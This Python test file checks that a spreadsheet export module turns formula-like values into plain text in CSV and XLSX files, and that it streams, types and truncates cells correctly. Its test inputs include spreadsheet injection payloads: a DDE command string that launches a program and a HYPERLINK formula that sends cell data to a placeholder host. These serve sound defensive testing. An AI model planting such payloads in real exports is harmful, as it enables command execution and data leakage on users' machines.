"""Tables that leave the house: nothing in them runs, nothing is lost, memory stays small."""

import csv
import io
import tracemalloc
import zipfile
from datetime import UTC, date, datetime
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core import exporting
from core.exporting import BOM, Sheet, csv_cell, csv_stream, formula_guard, xlsx_write

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
FORMULAS = [
    "=1+1",
    "+7 701 000 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=HYPERLINK("http://example.org?"&A1)',
]
WORDS = ["Үлгі", "a=b", "1-2", "user@example.org", "", "'quoted'", " - list"]


def read(parts) -> list[list[str]]:
    data = b"".join(parts)
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def cells(file) -> list[list[tuple[str, str]]]:
    """Type and content of each cell of the first sheet."""
    with zipfile.ZipFile(file) as book:
        page = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    return [
        [
            (
                cell.get("t", "n"),
                "".join(part.text or "" for part in cell.iter() if part is not cell),
            )
            for cell in row
        ]
        for row in page.iter(f"{MAIN}row")
    ]


def book(*sheets) -> io.BytesIO:
    file = io.BytesIO()
    xlsx_write(file, sheets)
    return file


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_in_csv_is_a_text(text):
    assert formula_guard(text) == f"'{text}" or formula_guard(text).startswith(f"'{text[0]}'")
    assert read(csv_stream(["a"], [[text]]))[1][0].startswith("'")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_in_a_header_too(text):
    assert read(csv_stream([text], []))[0][0].startswith("'")


@pytest.mark.parametrize("text", WORDS)
def test_other_words_stay_as_they_are(text):
    assert read(csv_stream(["a"], [[text]]))[1] == [text]


@pytest.mark.parametrize("sign", [";", "\t", "|", "\n"])
def test_no_cell_begins_a_formula_where_another_locale_would_cut_it(sign):
    """A Russian spreadsheet takes the semicolon for the end of the cell."""
    assert formula_guard(f"x{sign}=cmd()") == f"x{sign}'=cmd()"


@given(st.lists(st.text(max_size=12), min_size=1, max_size=4))
def test_no_text_whatever_begins_a_formula(row):
    (back,) = list(csv.reader(io.StringIO(b"".join(csv_stream(row, []))[3:].decode(), newline="")))
    assert len(back) == len(row)
    assert not any(
        cell[:1] in (*exporting.FORMULA_SIGNS, "\t", "\r", "\n") for cell in back if cell
    )


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (1.5, "1.5"),
        (True, "1"),
        (None, ""),
        (date(2026, 5, 4), "2026-05-04"),
        (datetime(2026, 5, 4, 20, 30, tzinfo=UTC), "2026-05-05 01:30:00"),
    ],
)
def test_numbers_and_moments_are_no_texts(value, cell):
    """A negative number is data; the time is that of the portal."""
    assert csv_cell(value) == cell


def test_quotes_commas_and_lines_come_back():
    row = ['a "b"', "c,d", "e\nf", "ж; з"]
    assert read(csv_stream(["1", "2", "3", "4"], [row]))[1] == row


def test_csv_streams():
    """The first bytes come before the last row is asked for, and the whole is never in memory."""
    asked = []

    def rows():
        for number in range(100_000):
            asked.append(number) if number % 10_000 == 0 else None
            yield [number, "слово " * 10]

    stream = csv_stream(["n", "words"], rows())
    assert next(stream) == BOM
    assert b"words" in next(stream)
    assert asked == [0]
    tracemalloc.start()
    size = sum(len(part) for part in stream)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert size > 10_000_000
    assert peak < 2_000_000


@pytest.mark.parametrize("text", [*FORMULAS, "{=1+1}", "http://example.org", "007"])
def test_a_text_in_xlsx_is_a_text(text):
    header, row = cells(book(Sheet("a", [text], [[text]])))
    assert [kind for kind, _said in (*header, *row)] == ["inlineStr", "inlineStr"]
    with zipfile.ZipFile(book(Sheet("a", ["b"], [[text]]))) as file:
        page = file.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in page
        assert "hyperlink" not in page


def test_kinds_of_cells_in_xlsx():
    row = [-5, 1.5, True, None, date(2026, 5, 4), datetime(2026, 5, 4, 20, tzinfo=UTC), "Үлгі"]
    shown = cells(book(Sheet("a", ["h"] * 7, [row])))[1]
    assert [kind for kind, _said in shown] == ["n", "n", "b", "n", "n", "inlineStr"]
    assert [said for _kind, said in shown][:3] == ["-5", "1.5", "1"]
    assert shown[4][1].startswith("46147.0416")


def test_a_sheet_with_more_rows_than_fit_goes_on_in_another(monkeypatch):
    monkeypatch.setattr(exporting, "SHEET_ROWS", 4)
    file = book(Sheet("a", ["h"], [[n] for n in range(7)]), Sheet("A", ["h"], []))
    with zipfile.ZipFile(file) as parts:
        names = ElementTree.fromstring(parts.read("xl/workbook.xml")).iter(f"{MAIN}sheet")
        assert [sheet.get("name") for sheet in names] == ["a", "a 2", "a 3", "A 4"]
    assert len(cells(file)) == 4


@pytest.mark.parametrize("name", ["a/b:c", "x" * 60, "", "'", "[*]"])
def test_any_name_of_a_sheet(name):
    assert cells(book(Sheet(name, ["h"], []), Sheet(name, ["h"], [])))


def test_what_no_cell_can_hold_is_cut_not_lost():
    shown = cells(book(Sheet("a", ["h"], [["я" * 40_000, "\ud800 half", "\x0b"]])))[1]
    assert len(shown[0][1]) == 32_767
    assert shown[0][1].endswith("…")
    assert shown[1][1] == "? half"
